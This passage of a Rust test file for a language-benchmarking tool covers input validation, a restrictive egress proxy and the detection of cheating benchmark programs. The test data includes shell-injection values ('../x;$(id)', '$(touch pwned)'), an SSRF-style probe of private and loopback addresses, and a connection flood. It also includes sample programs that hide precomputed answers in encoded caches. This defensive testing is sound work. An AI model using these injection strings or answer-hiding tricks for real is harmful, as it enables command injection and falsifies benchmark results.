            !s.contains("_x001B_") && !s.contains("_x0007_"),
            "{name} holds an escape"
        );
    }
}

/// Row 12: `new` with an id no later command accepts (`../x;$(id)`)
/// refuses before writing anything (the languages file and the programs
/// directory stay as they were), and the next command it prints is
/// shell-quoted, ready to paste (a languages file in a directory with a
/// space and a `$(...)` in its name).
#[test]
fn r3_row12_new_checks_the_id_before_writing_and_quotes_what_it_prints() {
    let toml = languages_toml(&[Entry::sh("a")]);
    let f = Fixture::new(&toml, &[("programs/num-comb/a.sh", "")]);
    let new = |languages: &str, id: &str| {
        langbench(&[
            "new",
            id,
            "--languages",
            languages,
            "--language",
            "X",
            "--ext",
            "foo",
            "--run",
            "x {src} {n}",
        ])
    };
    let o = new(&f.languages(), "../x;$(id)");
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("nothing was written"), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(f.languages()).unwrap(), toml);
    assert!(
        !f.path().join("programs/assoc").exists(),
        "programs written"
    );

    let odd = f.path().join("a dir $(touch pwned)");
    std::fs::create_dir_all(&odd).unwrap();
    let languages = odd.join("languages.toml");
    let o = new(languages.to_str().unwrap(), "x-lang");
    assert!(o.status.success(), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    let next = out
        .split("then `")
        .nth(1)
        .and_then(|s| s.split('`').next())
        .unwrap_or_else(|| panic!("no next command in {out}"));
    assert_eq!(
        shell_words::split(next).unwrap(),
        [
            "langbench",
            "check",
            "--languages",
            languages.to_str().unwrap(),
            "x-lang"
        ],
        "{out}"
    );
}

/// Row 16: a huge field is bounded where it enters: a languages file with
/// a 1 MB language is refused with its line, and a record a branch brings
/// with a 200,000-character language renders with that field cut, not
/// repeated whole across the page and the CSV (a 30 MB name once made a
/// 660 MB page).
#[test]
fn r3_row16_huge_fields_are_bounded() {
    let huge = "A".repeat(1 << 20);
    let entry = Entry::sh("big").language(&huge);
    let f = Fixture::new(
        &languages_toml(&[entry]),
        &[("programs/num-comb/big.sh", "")],
    );
    let o = langbench(&["list", "--languages", &f.languages()]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o).len());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("languages.toml:3:") && err.contains("at most 4096") && err.len() < 2000,
        "{}",
        &err[..err.len().min(2000)]
    );

    let t = tempfile::tempdir().unwrap();
    let d = edition_in(t.path(), "big", "2020");
    let runs = std::fs::read_to_string(d.join("runs.jsonl")).unwrap();
    let mut r: serde_json::Value = serde_json::from_str(runs.lines().last().unwrap()).unwrap();
    let long = "B".repeat(200_000);
    r["variant"] = "big-one".into();
    r["language"] = long.clone().into();
    r["flags"] = long.clone().into();
    std::fs::write(d.join("runs.jsonl"), format!("{runs}{r}\n")).unwrap();
    let o = langbench(&["report", d.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o).len());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("cut to that"),
        "no warning"
    );
    let cut = "B".repeat(4097);
    for name in ["summary.csv", "runs.csv", "summary.md", "report.html"] {
        let s = std::fs::read_to_string(d.join(name)).unwrap();
        assert!(s.contains(&"B".repeat(100)), "{name}: the field is gone");
        assert!(!s.contains(&cut), "{name} holds the field whole");
    }
}

/// Whether `ip`, `unshare` and `nsenter` are here (network namespaces of
/// the test's own).
fn netns_tools() -> bool {
    ["ip", "unshare", "nsenter"]
        .iter()
        .all(|t| which::which(t).is_ok())
}

/// Row 7: a `prepare` step asks langbench's proxy for addresses of the
/// special-purpose blocks a LAN can sit in (documentation, benchmarking,
/// NAT64: on some hosts the LAN itself) and for a public address that is
/// no registry. The "LAN" is a network namespace of this test's own,
/// reached over a veth pair from the namespace langbench runs in, with a
/// listener on port 443 of every such address. The maintainer even
/// allowed the special addresses as literals (`LANGBENCH_PREPARE_ALLOW`):
/// the proxy still refuses them, and refuses the public address no one
/// allowed; the one public address allowed (a mirror) is reached, so the
/// proxy does work. Before, all of them were reached. A *name* the
/// maintainer allowed (`mirror.lan`, in the hosts file of langbench's
/// mount namespace) leads where the resolver says, a benchmarking address
/// here, as a registry's name does on a machine behind an egress proxy:
/// reached; a name resolving to loopback is not.
#[test]
fn r3_row07_prepare_reaches_no_special_purpose_address_and_no_host_but_the_allowed() {
    if !root() || !netns_tools() {
        eprintln!("skipped: needs root, ip, unshare and nsenter");
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let reached = t.path().join("reached");
    let ready = t.path().join("ready");
    // The LAN: a namespace holding the listener.
    let mut lan = Command::new("unshare")
        .args(["--net", "sleep", "600"])
        .spawn()
        .unwrap();
    struct Kill(Vec<std::process::Child>);
    impl Drop for Kill {
        fn drop(&mut self) {
            for c in &mut self.0 {
                let _ = c.kill();
                let _ = c.wait();
            }
        }
    }
    let lan_pid = lan.id().to_string();
    std::thread::sleep(Duration::from_millis(200));
    let listener = format!(
        r#"
import socket, select
ss = []
for fam, host in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if fam == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((host, 443)); s.listen(64); ss.append(s)
open({ready:?}, 'w').close()
while True:
    for s in select.select(ss, [], [])[0]:
        c, _ = s.accept()
        with open({reached:?}, 'a') as f:
            f.write(c.getsockname()[0] + '\n')
        c.close()
"#,
        ready = ready.display().to_string(),
        reached = reached.display().to_string(),
    );
    let listen = Command::new("nsenter")
        .args(["-t", &lan_pid, "-n", "python3", "-c", &listener])
        .spawn()
        .unwrap();
    let _kill = Kill(vec![listen]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while !ready.exists() {
        assert!(Instant::now() < deadline, "the listener did not start");
        std::thread::sleep(Duration::from_millis(50));
    }

    let targets = [
        "192.0.2.1",
        "198.18.0.1",
        "[64:ff9b::1]",
        "203.0.114.1",
        "203.0.114.3",
        "mirror.lan",
        "loop.lan",
    ];
    let connect = format!(
        r#"
import os, socket, sys
proxy = os.environ['HTTPS_PROXY'].rsplit(':', 1)
for t in {targets:?}:
    s = socket.create_connection((proxy[0].split('//')[-1], int(proxy[1])), 20)
    s.sendall(('CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n' % (t, t)).encode())
    sys.stderr.write(t + ': ' + s.recv(200).decode(errors='replace').splitlines()[0] + '\n')
    s.close()
"#
    );
    let (_, m) = marker("r3a07");
    let entry = Entry::sh("lan")
        .flags("python3 lan")
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/lan/lan.py")
        .prepare("python3 {dir}/connect.py");
    let f = Fixture::new(
        &languages_toml(&[entry]),
        &[
            ("programs/lan/lan.py", &format!("{RIGHT}\n")),
            ("programs/lan/connect.py", &connect),
        ],
    );
    // The host's own loopback (langbench's namespace), where loop.lan
    // points: a listener for 2 minutes.
    let loopback = format!(
        r#"
import socket, select, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 443)); s.listen(64)
end = time.time() + 120
while time.time() < end:
    if select.select([s], [], [], 1)[0]:
        c, _ = s.accept()
        with open({reached:?}, 'a') as f:
            f.write(c.getsockname()[0] + '\n')
        c.close()
"#,
        reached = reached.display().to_string(),
    );
    let hosts = t.path().join("hosts");
    std::fs::write(
        &hosts,
        "127.0.0.1 localhost\n198.18.0.3 mirror.lan\n127.0.0.1 loop.lan\n",
    )
    .unwrap();
    // langbench in a namespace of its own, joined to the LAN by a veth
    // pair: each special address and the two public ones on the LAN's side.
    let setup = format!(
        "set -e
ip link set lo up
mount --bind {hosts} /etc/hosts
python3 -c \"$LOOPBACK_LISTENER\" </dev/null >/dev/null 2>&1 &
ip link add va type veth peer name vb netns {lan_pid}
ip addr add 192.0.2.2/24 dev va
ip addr add 198.18.0.2/15 dev va
ip addr add 203.0.114.2/24 dev va
ip -6 addr add 64:ff9b::2/96 dev va nodad
ip link set va up
nsenter -t {lan_pid} -n sh -c 'ip link set lo up; ip addr add 192.0.2.1/24 dev vb; ip addr add 198.18.0.1/15 dev vb; ip addr add 203.0.114.1/24 dev vb; ip addr add 203.0.114.3/24 dev vb; ip addr add 198.18.0.3/15 dev vb; ip -6 addr add 64:ff9b::1/96 dev vb nodad; ip link set vb up'
exec \"$@\"",
        hosts = hosts.display()
    );
    let o = Command::new("unshare")
        .args(["--net", "--mount", "sh", "-c", &setup, "sh"])
        .arg(bin())
        .args(f.run_args(&["--timeout", "60"]))
        .env("LOOPBACK_LISTENER", &loopback)
        .env(
            "LANGBENCH_PREPARE_ALLOW",
            "192.0.2.1,198.18.0.1,64:ff9b::1,203.0.114.1,mirror.lan,loop.lan",
        )
        .output()
        .unwrap();
    let _ = lan.kill();
    let _ = lan.wait();
    assert!(o.status.success(), "{}", text(&o));
    let got = std::fs::read_to_string(&reached).unwrap_or_default();
    let mut got: Vec<&str> = got.lines().collect();
    got.sort();
    got.dedup();
    assert_eq!(
        got,
        ["198.18.0.3", "203.0.114.1"],
        "the prepare step reached these addresses of the LAN: {}",
        text(&o)
    );
    assert_eq!(records(&f)["lan"]["status"], "ok", "{}", records(&f)["lan"]);
}

/// Row 8: a `prepare` step opens 300 connections to the proxy and sends
/// nothing. langbench holds no thread per connection (its thread count
/// stays near its own while they are open: before, one each), serves at
/// most `--max-processes` of them (the others are answered 503 at once),
/// and closes the silent ones within seconds (before, each was held for
/// 30 s).
#[test]
fn r3_row08_proxy_connections_are_bounded_and_slow_heads_time_out() {
    if !root() {
        eprintln!("skipped: the proxy needs root");
        return;
    }
    let hold = r#"
import os, socket, sys, time, select
host, port = os.environ['HTTPS_PROXY'].split('//')[-1].rsplit(':', 1)
socks = [socket.create_connection((host, int(port)), 10) for _ in range(300)]
start = time.time()
refused = 0
open_ = list(socks)
while open_ and time.time() - start < 20:
    for s in select.select(open_, [], [], 1)[0]:
        data = s.recv(100)
        if data.startswith(b'HTTP/1.1 503'):
            refused += 1
        open_.remove(s)
waited = time.time() - start
if open_ or waited > 10 or refused == 0:
    sys.stderr.write('held %d connections for %.1f s, %d refused\n' % (len(open_), waited, refused))
    sys.exit(1)
"#;
    let (_, m) = marker("r3a08");
    let entry = Entry::sh("hold")
        .flags("python3 hold")
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/hold/hold.py")
        .prepare("python3 {dir}/open.py");
    let f = Fixture::new(
        &languages_toml(&[entry]),
        &[
            ("programs/hold/hold.py", &format!("{RIGHT}\n")),
            ("programs/hold/open.py", hold),
        ],
    );
    let mut child = Command::new(bin())
        .args(f.run_args(&["--timeout", "60", "--max-processes", "64"]))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut most = 0;
    while child.try_wait().unwrap().is_none() {
        let threads = std::fs::read_dir(format!("/proc/{pid}/task"))
            .map(|d| d.count())
            .unwrap_or(0);
        most = most.max(threads);
        std::thread::sleep(Duration::from_millis(20));
    }
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let r = &records(&f)["hold"];
    assert_eq!(r["status"], "ok", "{r}");
    assert!(
        most < 30,
        "langbench ran {most} threads while the connections were open"
    );
}

/// `langbench check ARGS` with its state directory `state` and HOME `home`.
fn r3_check(args: &[&str], state: &Path, home: &Path) -> std::process::Output {
    Command::new(bin())
        .arg("check")
        .args(args)
        .env("LANGBENCH_STATE", state)
        .env("HOME", home)
        .env_remove("XDG_CACHE_HOME")
        .output()
        .expect("langbench check runs")
}

/// Row 5 (a): an untimed `prepare` precomputes the answers for the sizes
/// it can guess (`check`'s were fixed: 1,000 and 12,345; the editions'
/// are published), and the program prints them without work. `check`'s
/// second size is drawn at random, and (issue #59, row 6) the answer at
/// the size it can guess, N = 1,000, is found where `prepare` left it:
/// it fails there, naming the file.
#[test]
fn r3_row05_prepare_cannot_precompute_the_answers_check_asks_for() {
    let (_, m) = marker("r5p");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let answer = |n: &str| {
        let o = langbench(&["expected", "assoc", "--size", n]);
        assert!(o.status.success(), "{}", text(&o));
        String::from_utf8(o.stdout).unwrap()
    };
    let known = format!(
        "{{{:?}: {:?}, {:?}: {:?}}}",
        "1000",
        answer("1000"),
        "12345",
        answer("12345")
    );
    // The untimed step writes the answers beside the program; the program
    // prints the one for N, or nothing right where it has none.
    let prep = format!(
        "import json, os\njson.dump({known}, open(os.path.join(os.path.dirname(__file__), 'answers.json'), 'w'))\n"
    );
    let program = "import json, os, sys\n\
        a = json.load(open(os.path.join(os.path.dirname(__file__), 'answers.json')))\n\
        print(a.get(sys.argv[1], '0 0 0\\n0 0 0\\n'), end='')\n";
    let toml = format!(
        "[[variant]]\nid = \"r5p\"\nlanguage = \"R5p\"\nflags = \"python3 r5p\"\n\
         run = \"python3 {{src}} {{n}}\"\n\
         prepare = \"python3 {{dir}}/prep.py\"\nenv = {{ LANGBENCH_TEST_MARKER = \"{m}\" }}\n\
         programs = {{ assoc = \"programs/r5p/assoc.py\" }}\ninstall = {{ apt = [\"python3\"] }}\n"
    );
    let f = Fixture::new(
        &toml,
        &[
            ("programs/r5p/assoc.py", program),
            ("programs/r5p/prep.py", &prep),
        ],
    );
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let drawn = out
        .split("drawn at random with seed ")
        .nth(1)
        .unwrap_or_else(|| panic!("the seed is printed: {out}"));
    assert!(
        out.contains(
            "r5p: assoc at N=1000: after a right run, `answers.json` in its prepared copy \
             (what `prepare` left) held the answer it printed"
        ) && !out.contains("ok: r5p")
            && out.contains("check: 1 problem(s)"),
        "{out}"
    );
    // The size is printed, and the seed repeats it.
    let seed: String = drawn.chars().take_while(char::is_ascii_digit).collect();
    let again = r3_check(
        &["--languages", &f.languages(), "--seed", &seed],
        state.path(),
        home.path(),
    );
    let again = String::from_utf8_lossy(&again.stdout).into_owned();
    let size_of = |s: &str| {
        s.split("right at N=1000 and N=").nth(1).map(|t| {
            t.chars()
                .take_while(char::is_ascii_digit)
                .collect::<String>()
        })
    };
    assert_eq!(size_of(&out), size_of(&again), "{out}\n{again}");
    assert_nothing_left(&m);
}

/// Row 5 (b): a declared cache remembers each N's answer, so every run
/// after the first at a size skips the work (here half a second of
/// sleep). Issue #59, row 6: what the cache holds is the evidence, not
/// how much faster the later runs are: `check` finds the answer in the
/// cache after its first run, and in an edition the cell is `escaped`,
/// shows REMEMBERED and names the file.
#[test]
fn r3_row05_a_cache_that_remembers_answers_is_flagged_by_check_and_in_the_edition() {
    let (_, m) = marker("r5c");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let program = "import os, sys, time\n\
        p = os.path.expanduser('~/.cache/ans/' + sys.argv[1])\n\
        if os.path.exists(p):\n    print(open(p).read(), end='')\n\
        else:\n    time.sleep(0.5)\n    a = '0 1 %s\\n' % sys.argv[1]\n    \
        open(p, 'w').write(a)\n    print(a, end='')\n";
    let toml = format!(
        "[[variant]]\nid = \"r5c\"\nlanguage = \"R5c\"\nflags = \"python3 r5c\"\n\
         run = \"python3 {{src}} {{n}}\"\nenv = {{ LANGBENCH_TEST_MARKER = \"{m}\" }}\n\
         programs = {{ num-comb = \"programs/r5c.py\" }}\ncaches = [\"~/.cache/ans\"]\n\
         install = {{ apt = [\"python3\"] }}\n"
    );
    let f = Fixture::new(&toml, &[("programs/r5c.py", program)]);
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        out.contains(
            "r5c: num-comb at N=1000: after a right run, `~/.cache/ans/1000` in its declared \
             caches held the answer it printed"
        ) && out.contains("check: 1 problem(s)"),
        "{out}"
    );
    assert!(!out.contains("ok: r5c"), "{out}");

    // The edition: an earlier session left the caches warm (another size),
    // then the measured one's first run computes and the others remember.
    let run = |size: &str, runs: &str, out: &Path| {
        let args: Vec<String> = [
            "run",
            "--languages",
            &f.languages(),
            "--size",
            size,
            "--runs",
            runs,
            "--out",
            &out.display().to_string(),
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let o = r3_run(&args, state.path(), home.path());
        assert!(o.status.success(), "{}", text(&o));
    };
    let results = tempfile::tempdir().unwrap();
    run("2_000", "1", &results.path().join("before"));
    let edition = results.path().join("edition");
    run("3000", "3", &edition);
    let summary = std::fs::read_to_string(edition.join("summary.md")).unwrap();
    assert!(
        regex::Regex::new(r"\d\.\d\d REMEMBERED")
            .unwrap()
            .is_match(&summary)
            && summary.contains(": escaped (3 of 3 runs): REMEMBERED ANSWER: after run ",)
            && summary.contains(
                "`~/.cache/ans/3000` in its declared caches held the answer it printed at N=3000"
            ),
        "{summary}"
    );
    let runs = std::fs::read_to_string(edition.join("runs.jsonl")).unwrap();
    assert_eq!(runs.matches("\"status\":\"escaped\"").count(), 3, "{runs}");
    assert_eq!(runs.matches("\"remembered\":").count(), 3, "{runs}");
    assert_nothing_left(&m);
}

// Issue #59, round four, row 6 and round three's rows still open then:
// remembered or precomputed answers, caught by what the caches and the
// prepared copy hold and by how the time scales, never by a cold/warm
// ratio alone.

/// The checkout's python3 num-comb: honest work.
fn python_num_comb() -> String {
    std::fs::read_to_string(repo().join("programs/num-comb/num_comb.py")).unwrap()
}

/// `langbench run` of every variant of `f` at `size`, `runs` runs, into
/// `out`, with the state directory `state` and HOME `home`: its
/// summary.md and runs.jsonl.
fn r4_run(
    f: &Fixture,
    size: &str,
    runs: &str,
    out: &Path,
    state: &Path,
    home: &Path,
) -> (String, String) {
    let args: Vec<String> = [
        "run",
        "--languages",
        &f.languages(),
        "--size",
        size,
        "--runs",
        runs,
        "--out",
        &out.display().to_string(),
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let o = r3_run(&args, state, home);
    assert!(o.status.success(), "{}", text(&o));
    (
        std::fs::read_to_string(out.join("summary.md")).unwrap(),
        std::fs::read_to_string(out.join("runs.jsonl")).unwrap(),
    )
}

/// A cache that keeps each N's answer where no search reads it (base64 of
/// it reversed), after computing it honestly the first time: `check`
/// fails it by its time (its second run at a size large enough to see the
/// work does a fraction of the first's), and in an edition the first later
/// run far faster than the first sends it to a control run at an N
/// announced to no one, where it has to do the work: REMEMBERED.
#[test]
fn r4_row06_an_answer_kept_encoded_is_caught_by_its_time() {
    let (_, m) = marker("r4e");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let program = format!(
        "import base64, os, sys\n\
         p = os.path.expanduser('~/.cache/kept/' + sys.argv[1])\n\
         if os.path.exists(p):\n    \
             print(base64.b64decode(open(p, 'rb').read())[::-1].decode(), end='')\n    \
             sys.exit(0)\n\
         import io, contextlib\n\
         out = io.StringIO()\n\
         with contextlib.redirect_stdout(out):\n    exec(compile({:?}, 'honest', 'exec'))\n\
         open(p, 'wb').write(base64.b64encode(out.getvalue()[::-1].encode()))\n\
         print(out.getvalue(), end='')\n",
        python_num_comb()
    );
    let toml = r3_entry(
        &m,
        "r4e",
        "caches = [\"~/.cache/kept\"]\ninstall = { apt = [\"python3\"] }",
    )
    .replace("programs/r4e.py", "programs/num-comb/r4e.py");
    let f = Fixture::new(&toml, &[("programs/num-comb/r4e.py", &program)]);
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        out.contains("r4e: num-comb at N=")
            && out.contains("(drawn at random): its second run did")
            && out.contains("it remembers answers between runs")
            && !out.contains("held the answer"),
        "{out}"
    );
    // The edition: run 1 computes (about a second of CPU), runs 2 and 3
    // read what it kept.
    let results = tempfile::tempdir().unwrap();
    let (summary, runs) = r4_run(
        &f,
        "300000",
        "3",
        &results.path().join("e"),
        state.path(),
        home.path(),
    );
    assert!(
        regex::Regex::new(r"\d\.\d\d REMEMBERED")
            .unwrap()
            .is_match(&summary)
            && summary.contains("REMEMBERED ANSWER: after run 2, a control run at N=")
            && summary.contains("this run did not do the work"),
        "{summary}\n{runs}"
    );
    assert_nothing_left(&m);
}

/// An untimed `prepare` computes the answers for the sizes known in
/// advance (`check`'s N = 1,000 and an edition's size, here 3,000) without
/// naming `{n}`, while the program computes honestly at any other N:
/// `check` finds N = 1,000's answer in the prepared copy, and an edition
/// at the size `prepare` knew is REMEMBERED, naming the file.
#[test]
fn r4_row06_a_prepare_that_computes_the_known_sizes_is_flagged() {
    let (_, m) = marker("r4p");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let prep = "import json, os\n\
        known = {str(n): '0 1 %d\\n' % n for n in (1000, 3000)}\n\
        json.dump(known, open(os.path.join(os.path.dirname(__file__), 'answers.json'), 'w'))\n";
    let program = format!(
        "import json, os, sys\n\
         a = json.load(open(os.path.join(os.path.dirname(__file__), 'answers.json')))\n\
         if sys.argv[1] in a:\n    print(a[sys.argv[1]], end='')\n    sys.exit(0)\n\
         {}",
        python_num_comb()
    );
    let toml = r3_entry(
        &m,
        "r4p",
        "prepare = \"python3 {dir}/prep.py\"\ninstall = { apt = [\"python3\"] }",
    )
    .replace("programs/r4p.py", "programs/r4p/num_comb.py");
    let f = Fixture::new(
        &toml,
        &[
            ("programs/r4p/num_comb.py", &program),
            ("programs/r4p/prep.py", prep),
        ],
    );
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        out.contains(
            "r4p: num-comb at N=1000: after a right run, `answers.json` in its prepared copy \
             (what `prepare` left) held the answer it printed"
        ),
        "{out}"
    );
    let results = tempfile::tempdir().unwrap();
    let (summary, runs) = r4_run(
        &f,
        "3000",
        "2",
        &results.path().join("e"),
        state.path(),
        home.path(),
    );
    assert!(
        summary.contains(
            "REMEMBERED ANSWER: after run 1, `answers.json` in its prepared copy (what \
             `prepare` left) held the answer it printed at N=3000"
        ) || summary.contains(
            "REMEMBERED ANSWER: after run 2, `answers.json` in its prepared copy (what \
             `prepare` left) held the answer it printed at N=3000"
        ),
        "{summary}\n{runs}"
    );
    // At a size it did not know, it computes: nothing is kept, nothing said.
    let (summary, runs) = r4_run(
        &f,
        "4000",
        "2",
        &results.path().join("other"),
        state.path(),
        home.path(),
    );
    assert!(!summary.contains("REMEMBERED"), "{summary}");
    assert!(!runs.contains("\"remembered\""), "{runs}");
    assert_nothing_left(&m);
}

/// The other side (issue #59): a correct program whose first run builds
/// what its toolchain caches (two seconds, then a compiled file in its
/// declared cache, as crystal's and go's builds do) is far faster from
/// its second run on; nothing of its answer is in the cache, and a control
/// run takes as long as the warm ones: no mark in the edition, and `check`
/// passes it.
#[test]
fn r4_row06_an_honest_warm_build_cache_is_not_flagged() {
    let (_, m) = marker("r4h");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let launch = "c=\"$HOME/.cache/honest-build\"\n\
        if [ ! -f \"$c/num_comb.pyc\" ]; then\n  sleep 2\n  \
        python3 -c 'import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True)' \"$1\" \"$c/num_comb.pyc\"\n\
        fi\nexec python3 \"$c/num_comb.pyc\" \"$2\"\n";
    // An entry `check` has nothing to say about.
    let entry = Entry::sh("r4h")
        .language("R4h")
        .flags("python3 r4h")
        .needs(&["sh", "python3"])
        .version_command("python3 --version")
        .run("sh {dir}/launch.sh {src} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/r4h/num_comb.py")
        .install("{ apt = [\"python3\"] }")
        .toml();
    let toml = format!(
        "{}\ncaches = [\"~/.cache/honest-build\"]\n",
        entry.trim_end()
    );
    let f = Fixture::new(
        &toml,
        &[
            ("programs/r4h/num_comb.py", &python_num_comb()),
            ("programs/r4h/launch.sh", launch),
        ],
    );
    let results = tempfile::tempdir().unwrap();
    let (summary, runs) = r4_run(
        &f,
        "20000",
        "3",
        &results.path().join("e"),
        state.path(),
        home.path(),
    );
    let walls: Vec<f64> = runs
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["wall_s"]
                .as_f64()
                .unwrap()
        })
        .collect();
    assert!(
        walls.len() == 3 && walls[0] > 4.0 * walls[1] && walls[0] - walls[1] > 0.2,
        "the warm cache did not make it faster, the test tests nothing: {walls:?}"
    );
    assert!(!summary.contains("REMEMBERED"), "{summary}");
    assert_eq!(runs.matches("\"status\":\"ok\"").count(), 3, "{runs}");
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("ok: r4h"),
        "{}",
        text(&o)
    );
    assert_nothing_left(&m);
}

/// Round four's row 6 itself: a C program, fast (its comb sort does 0.05
/// s of work at check's drawn size), keeps each N's answer in its
/// declared cache, XORed so that no search reads it, and prints it from
/// there on every later run at that N. A 0.2 s cold/warm floor never saw
/// it; `check` goes up in size (drawn at random, never announced) until
/// its work is half a second, and its second run there did none of it.
/// In an edition at a size where its work shows, its later runs are far
/// faster than its first: a control run at an N announced to no one does
/// the work, and the cell is REMEMBERED.
#[test]
fn r4_row06_a_fast_c_program_that_keeps_its_answers_is_caught_by_its_time() {
    let (_, m) = marker("r4c");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let honest = std::fs::read_to_string(repo().join("programs/num-comb/num_comb.c"))
        .unwrap()
        .replace("int main(int argc", "static int honest_main(int argc");
    let program = format!(
        "{honest}\n\
         int main(int argc, char **argv)\n{{\n\
         char path[4096];\n\
         const char *home = getenv(\"HOME\");\n\
         snprintf(path, sizeof path, \"%s/.cache/c-kept/%s\", home ? home : \"/\", argc > 1 ? argv[1] : \"0\");\n\
         FILE *f = fopen(path, \"rb\");\n\
         if (f) {{ int c; while ((c = fgetc(f)) != EOF) putchar(c ^ 0x5a); fclose(f); return 0; }}\n\
         int r = honest_main(argc, argv);\n\
         char a[64];\n\
         int len = snprintf(a, sizeof a, \"0 1 %ld\\n\", atol(argv[1]));\n\
         f = fopen(path, \"wb\");\n\
         if (f) {{ for (int i = 0; i < len; i++) fputc(a[i] ^ 0x5a, f); fclose(f); }}\n\
         return r;\n}}\n"
    );
    let entry = Entry::sh("r4c")
        .language("R4c")
        .flags("gcc -O2 r4c")
        .needs(&["sh", "gcc"])
        .version("1.0")
        .run("{exe} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/num-comb/r4c.c")
        .install("{ apt = [\"gcc\"] }")
        .toml();
    let toml = format!(
        "{}\nbuild = \"gcc -O2 -o {{exe}} {{src}}\"\ncaches = [\"~/.cache/c-kept\"]\n",
        entry.trim_end()
    );
    let f = Fixture::new(&toml, &[("programs/num-comb/r4c.c", &program)]);
    let o = r3_check(&["--languages", &f.languages()], state.path(), home.path());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        out.contains("r4c: num-comb at N=")
            && out.contains("its second run did")
            && out.contains("it remembers answers between runs")
            && !out.contains("held the answer"),
        "{out}"
    );
    let results = tempfile::tempdir().unwrap();
    let (summary, runs) = r4_run(
        &f,
        "20000000",
        "3",
        &results.path().join("e"),
        state.path(),
        home.path(),
    );
    assert!(
        summary.contains("REMEMBERED ANSWER: after run 2, a control run at N=")
            && summary.contains("this run did not do the work"),
        "{summary}\n{runs}"
    );
    assert_nothing_left(&m);
}

/// An untimed `prepare` computes the answer for the edition's size (here
/// 300,000) and keeps it encoded (base64 of it reversed) in the prepared
/// copy, where no search reads it; the program prints it at that N and
/// computes honestly at any other. Even the cell's first run is a lookup,
/// so no later run is faster than it: the first run of a cell whose
/// prepared copy (or caches) held anything gets a control run at an N
/// announced to no one, which does the work, and the cell is REMEMBERED.
/// At a size `prepare` did not know, the control run takes as long as the
/// run: nothing said.
#[test]
fn r4_row06_a_prepare_that_keeps_the_edition_answer_encoded_is_caught_by_a_control_run() {
    let (_, m) = marker("r4k");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let prep = format!(
        "import base64, contextlib, io, json, os, sys\n\
         out = io.StringIO()\n\
         sys.argv = ['num_comb.py', '300000']\n\
         with contextlib.redirect_stdout(out):\n    exec(compile({:?}, 'honest', 'exec'))\n\
         kept = {{'300000': base64.b64encode(out.getvalue()[::-1].encode()).decode()}}\n\
         json.dump(kept, open(os.path.join(os.path.dirname(__file__), 'kept.json'), 'w'))\n",
        python_num_comb()
    );
    let program = format!(
        "import base64, json, os, sys\n\
         k = json.load(open(os.path.join(os.path.dirname(__file__), 'kept.json')))\n\
         if sys.argv[1] in k:\n    \
             print(base64.b64decode(k[sys.argv[1]]).decode()[::-1], end='')\n    sys.exit(0)\n\
         {}",
        python_num_comb()
    );
    let toml = r3_entry(
        &m,
        "r4k",
        "prepare = \"python3 {dir}/prep.py\"\ninstall = { apt = [\"python3\"] }",
    )
    .replace("programs/r4k.py", "programs/r4k/num_comb.py");
    let f = Fixture::new(
        &toml,
        &[
            ("programs/r4k/num_comb.py", &program),
            ("programs/r4k/prep.py", &prep),
        ],
    );
    let results = tempfile::tempdir().unwrap();
